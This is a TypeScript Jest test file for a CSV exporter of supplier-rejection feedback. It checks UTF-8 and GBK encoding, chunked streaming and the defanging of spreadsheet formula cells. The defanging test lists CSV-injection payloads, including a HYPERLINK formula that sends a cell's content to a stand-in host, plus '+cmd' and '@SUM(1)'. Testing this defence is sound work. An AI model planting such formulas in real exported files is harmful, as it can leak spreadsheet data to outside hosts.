import * as iconv from 'iconv-lite';
import { parse } from 'csv-parse/sync';
import type { FeedbackRejection } from '../connector.contract';
import { feedbackCsvChunks } from './feedback-csv';

const rejection = (value: string | null, i = 0): FeedbackRejection => ({
  index: i,
  sourceKey: `CF-${i}`,
  field: '统一社会信用代码',
  code: 'INVALID_USCC',
  value,
  message: '统一社会信用代码校验位错误',
  hint: '请核对第 18 位校验码',
});

function rows(buffer: Buffer, encoding: 'utf-8' | 'gbk'): string[][] {
  const text = encoding === 'gbk' ? iconv.decode(buffer, 'gb18030') : buffer.toString('utf8');
  return parse(text, { bom: true }) as string[][];
}

describe('feedbackCsvChunks', () => {
  it('writes UTF-8 with a BOM, a header and one row per rejection', () => {
    const out = Buffer.concat([...feedbackCsvChunks([rejection('913502'), rejection(null, 1)], 'utf-8')]);
    expect(out.subarray(0, 3)).toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    const table = rows(out, 'utf-8');
    expect(table).toHaveLength(3);
    expect(table[0]?.[0]).toBe('序号(index)');
    expect(table[1]).toEqual(['0', 'CF-0', '统一社会信用代码', 'INVALID_USCC', '913502', '统一社会信用代码校验位错误', '请核对第 18 位校验码']);
    expect(table[2]?.[4]).toBe('');
  });

  it('writes GBK bytes (no BOM) for a GBK supplier', () => {
    const out = Buffer.concat([...feedbackCsvChunks([rejection('厦门')], 'gbk')]);
    expect(out.subarray(0, 3)).not.toEqual(Buffer.from([0xef, 0xbb, 0xbf]));
    expect(out.includes(iconv.encode('厦门', 'gbk'))).toBe(true);
    expect(rows(out, 'gbk')[1]?.[4]).toBe('厦门');
  });

  it.each(['=HYPERLINK("http://x/?"&A1)', '+cmd', '-1+1', '@SUM(1)', '\tlead', '\rlead'])(
    'defangs the formula cell %j with a leading quote (anchors 3.3, E7)',
    (value) => {
      const table = rows(Buffer.concat([...feedbackCsvChunks([rejection(value)], 'utf-8')]), 'utf-8');
      expect(table[1]?.[4]).toBe(`'${value}`);
    },
  );

  it('streams a large report in bounded chunks', () => {
    const many = Array.from({ length: 1000 }, (_, i) => rejection('x', i));
    const chunks = [...feedbackCsvChunks(many, 'utf-8')];
    expect(chunks.length).toBeGreaterThan(3);
    expect(rows(Buffer.concat(chunks), 'utf-8')).toHaveLength(1001);
  });
});
